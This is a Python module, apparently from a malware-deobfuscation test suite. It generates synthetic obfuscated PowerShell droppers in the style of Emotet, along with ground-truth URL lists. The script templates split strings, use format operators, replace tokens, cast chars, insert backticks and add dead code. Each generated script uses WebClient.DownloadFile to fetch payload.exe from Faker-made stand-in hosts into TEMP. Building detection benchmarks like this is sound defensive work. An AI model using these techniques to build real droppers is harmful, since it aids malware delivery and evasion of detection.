"""Seeded generator of obfuscated droppers with known URLs.

The scripts follow the shape of Emotet's PowerShell stage: the URL list is
one '@'-joined string whose '/' characters are swapped for a token, broken
into fragments, reassembled, un-tokenized with ``.replace`` and split.  Each
technique can be switched off on its own, and the static engine must
recover exactly the planted URLs from every output.
"""
import base64
import logging
import random
import string
from pathlib import Path
from typing import FrozenSet, Iterable, List, Optional, Sequence, Tuple, Union

from faker import Faker

from deobfuscator.lexer import AUTOMATIC_VARIABLES, KEYWORDS
from evaluation.truth import GroundTruthEntry, sample_id_for, write_ground_truth
from iocs.urls import validate_url
from utils.config import config

logger = logging.getLogger(__name__)

TECHNIQUES = frozenset({
    "split-strings", "format-op", "replace-token", "char-cast", "backticks", "dead-code",
    "random-names",
})

# backtick before these letters is an escape sequence, not a no-op
_ESCAPE_LETTERS = frozenset("0abefnrtuv")


def _techniques(techniques: Optional[Iterable[str]]) -> FrozenSet[str]:
    chosen = TECHNIQUES if techniques is None else frozenset(techniques)
    unknown = chosen - TECHNIQUES
    if unknown:
        raise ValueError(f"unknown techniques: {', '.join(sorted(unknown))}")
    return chosen


def _quote(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


class _ScriptWriter:
    """Builds one script; every random choice comes from ``rng``."""

    def __init__(self, rng: random.Random, techniques: FrozenSet[str]):
        self.rng = rng
        self.techniques = techniques
        self.used_names = set()

    def uses(self, technique: str) -> bool:
        return technique in self.techniques

    # -- names -------------------------------------------------------------

    def name(self, readable: str) -> str:
        if not self.uses("random-names"):
            candidate = readable
            suffix = 1
            while candidate.lower() in self.used_names:
                suffix += 1
                candidate = f"{readable}{suffix}"
        else:
            while True:
                candidate = self.rng.choice(string.ascii_uppercase) + "".join(
                    self.rng.choice(string.ascii_lowercase + string.digits) for _ in range(6))
                lowered = candidate.lower()
                if lowered not in self.used_names and lowered not in AUTOMATIC_VARIABLES \
                        and lowered not in KEYWORDS:
                    break
        self.used_names.add(candidate.lower())
        return candidate

    def case(self, word: str) -> str:
        """Random letter case only; keywords and type names take no backticks."""
        if not self.uses("backticks"):
            return word
        return "".join(ch.upper() if self.rng.random() < 0.5 else ch.lower() for ch in word)

    def mangle(self, word: str) -> str:
        """Random case and inserted backticks, as in ``."R`eP`lAce"``."""
        if not self.uses("backticks"):
            return word
        out = []
        for i, ch in enumerate(word):
            ch = ch.upper() if self.rng.random() < 0.5 else ch.lower()
            if 0 < i and ch.isalpha() and ch.lower() not in _ESCAPE_LETTERS and self.rng.random() < 0.3:
                out.append("`")
            out.append(ch)
        return "".join(out)

    def member(self, name: str) -> str:
        if self.uses("backticks"):
            return '."' + self.mangle(name) + '"'
        return "." + name

    # -- string construction -------------------------------------------------

    def cut(self, text: str) -> List[str]:
        pieces = []
        i = 0
        while i < len(text):
            size = self.rng.randint(2, 8)
            pieces.append(text[i:i + size])
            i += size
        return pieces

    def format_expr(self, group: Sequence[str]) -> str:
        order = list(range(len(group)))
        self.rng.shuffle(order)
        args = [""] * len(group)
        template = []
        for position, index in enumerate(order):
            args[index] = group[position]
            template.append("{%d}" % index)
        operator = "-f" if self.rng.random() < 0.5 else "-F"
        return '("' + "".join(template) + '" ' + operator + " " + ",".join(_quote(a) for a in args) + ")"

    def text_expr(self, text: str) -> str:
        """An expression that folds to ``text``."""
        if len(text) < 2:
            return _quote(text)
        if not self.uses("split-strings"):
            if self.uses("format-op") and len(text) >= 4:
                return self.format_expr(self.cut(text))
            return _quote(text)

        pieces = self.cut(text)
        parts = []
        i = 0
        while i < len(pieces):
            size = self.rng.randint(1, min(4, len(pieces) - i))
            group = pieces[i:i + size]
            i += size
            if self.uses("format-op") and size >= 2 and self.rng.random() < 0.5:
                parts.append(self.format_expr(group))
            elif size >= 2 and self.rng.random() < 0.5:
                parts.append("(" + "+".join(_quote(p) for p in group) + ")")
            else:
                parts.extend(_quote(p) for p in group)
        return "(" + "+".join(parts) + ")"

    def junk(self) -> str:
        value = "".join(self.rng.choice(string.ascii_letters + string.digits)
                        for _ in range(self.rng.randint(4, 10)))
        return f"${self.name('junk')}={self.text_expr(value)}"

    def maybe_junk(self, lines: List[str]) -> None:
        if self.uses("dead-code") and self.rng.random() < 0.7:
            lines.append(self.junk())

    # -- script ------------------------------------------------------------

    def token(self, blob: str) -> str:
        while True:
            token = self.rng.choice("=!~]") + "".join(
                self.rng.choice(string.ascii_uppercase) for _ in range(2)) + str(self.rng.randint(10, 99))
            if token not in blob:
                return token

    def script(self, urls: Sequence[str]) -> str:
        lines: List[str] = []
        blob = "@".join(urls)
        url_list, separator, client = self.name("urls"), self.name("sep"), self.name("client")
        path, url = self.name("path"), self.name("url")

        self.maybe_junk(lines)
        if self.uses("char-cast"):
            left, right = self.name("pre"), self.name("post")
            at = "[" + self.case("char") + "](64)"
            lines.append(f"${separator}=${left}+{at}+${right}")
        else:
            lines.append(f"${separator}={self.text_expr('@')}")
        self.maybe_junk(lines)

        if self.uses("replace-token"):
            token = self.token(blob)
            slash = "[" + self.case("string") + "][" + self.case("char") + "]47" \
                if self.uses("char-cast") else _quote("/")
            source = f"({self.text_expr(blob.replace('/', token))})" \
                     f"{self.member('replace')}({self.text_expr(token)},{slash})"
        else:
            source = f"({self.text_expr(blob)})"
        lines.append(f"${url_list}={source}{self.member('split')}(${separator})")
        self.maybe_junk(lines)

        lines.append(f"${client}={self.mangle('new-object')} {self.mangle('net.webclient')}")
        lines.append(f"${path}=$env:TEMP+{self.text_expr(chr(92) + self.name('payload') + '.exe')}")
        self.maybe_junk(lines)

        body = [
            f"${client}{self.member('downloadfile')}(${url}, ${path})",
            "break",
        ]
        if self.uses("dead-code"):
            body.append(self.junk())
        lines.append(
            f"{self.case('foreach')}(${url} in ${url_list}){{{self.case('try')}{{"
            + ";".join(body) + "}" + self.case("catch") + "{}}"
        )
        self.maybe_junk(lines)
        return ";".join(lines) + "\n"


def generate_synthetic_sample(urls: Sequence[str], seed: int,
                              techniques: Optional[Iterable[str]] = None,
                              script_path: Optional[str] = None) -> Tuple[str, GroundTruthEntry]:
    """Obfuscated script planting ``urls``, with its truth entry.

    Args:
        urls: Valid http(s) URLs, non-empty
        seed: Makes the output reproducible
        techniques: Subset of ``TECHNIQUES``; None enables all of them
        script_path: Recorded in the truth entry

    Returns:
        (script text, truth entry)
    """
    if not urls:
        raise ValueError("at least one URL is required")
    normalized = []
    for url in urls:
        valid = validate_url(url)
        if valid is None or "@" in valid:
            raise ValueError(f"not a plantable URL: {url!r}")
        if valid not in normalized:
            normalized.append(valid)

    writer = _ScriptWriter(random.Random(seed), _techniques(techniques))
    script = writer.script(normalized)
    entry = GroundTruthEntry(sample_id_for(script), script_path or f"synthetic-{seed}.ps1", tuple(normalized))
    return script, entry


def fake_urls(faker: Faker, rng: random.Random, min_urls: int, max_urls: int) -> List[str]:
    """Between ``min_urls`` and ``max_urls`` distinct dropper-looking URLs."""
    count = rng.randint(min_urls, max_urls)
    urls: List[str] = []
    while len(urls) < count:
        scheme = "https" if rng.random() < 0.5 else "http"
        path = faker.uri_path(deep=rng.randint(1, 3))
        url = validate_url(f"{scheme}://{faker.domain_name()}/{path}/")
        if url is not None and url not in urls:
            urls.append(url)
    return urls


def write_synthetic_corpus(out_dir: Union[str, Path], count: int, seed: int,
                           techniques: Optional[Iterable[str]] = None,
                           encode_base64: bool = False) -> List[GroundTruthEntry]:
    """Write ``count`` scripts and ``truth.jsonl`` into ``out_dir``.

    Output is identical for identical arguments.  With ``encode_base64``
    each script is stored as base64 of its UTF-16LE bytes.

    Returns:
        Truth entries in file order
    """
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    faker = Faker()
    faker.seed_instance(seed)
    rng = random.Random(seed)
    min_urls = int(config.get("synthetic.min_urls", 4))
    max_urls = int(config.get("synthetic.max_urls", 9))

    entries: List[GroundTruthEntry] = []
    for index in range(count):
        urls = fake_urls(faker, rng, min_urls, max_urls)
        script, _ = generate_synthetic_sample(urls, rng.randrange(2 ** 32), techniques)
        data = script.encode("utf-8")
        if encode_base64:
            data = base64.b64encode(script.encode("utf-16-le")) + b"\n"
        path = out_dir / f"sample_{index:05d}.ps1"
        path.write_bytes(data)
        entries.append(GroundTruthEntry(sample_id_for(data), str(path), tuple(urls)))

    write_ground_truth(entries, out_dir / "truth.jsonl", relative_to=out_dir)
    logger.info("wrote %d synthetic samples to %s", count, out_dir)
    return entries
